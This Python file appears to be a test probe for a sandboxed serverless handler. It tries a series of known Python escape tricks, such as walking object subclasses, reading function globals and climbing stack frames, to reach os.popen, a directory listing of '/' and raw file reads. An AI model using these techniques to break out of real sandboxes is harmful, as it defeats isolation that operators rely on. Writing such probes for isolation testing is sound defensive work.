"""Functions of the system out of the objects that everybody has: classes of classes, frames, globals of library functions.

native: wrapped, globals, builtins
"""
import sys


def handler(event, context):
    every = ().__class__.__base__.__subclasses__()

    def wrapped():
        # the class of files that os.popen returns lives in os
        found = [each for each in every if each.__name__ == "_wrap_close"]
        return needed(found[0].__init__.__globals__["popen"]("echo x").read())

    def spread():
        for each in every:
            scope = getattr(getattr(each, "__init__", None), "__globals__", {})
            for name in ("os", "sys", "subprocess", "builtins", "_io"):
                if name in scope and hasattr(scope[name], "listdir"):
                    return needed(scope[name].listdir("/"))
        raise LookupError

    def framed():
        frame = sys._getframe()
        while frame.f_back is not None:
            frame = frame.f_back
        return needed(frame.f_builtins["open"](event["file"]).read())

    return {
        "wrapped": tried(wrapped),
        "globals": tried(spread),
        "builtins": tried(framed),
        "file": tried(lambda: [each for each in every if each.__name__ == "FileIO"][0](event["file"]).read()),
        "raw": tried(lambda: [each for each in every if each.__name__ == "_RawIOBase"][0].__subclasses__()[0](event["file"]).read()),
        "loader": tried(lambda: needed([each for each in every if each.__name__ == "FileLoader"][0].get_data(None, event["file"]))),
        "nested": tried(lambda: needed([deep for each in every for deep in each.__subclasses__() if deep.__name__ in ("Popen", "FileIO")][0](event["file"]).read())),
    }
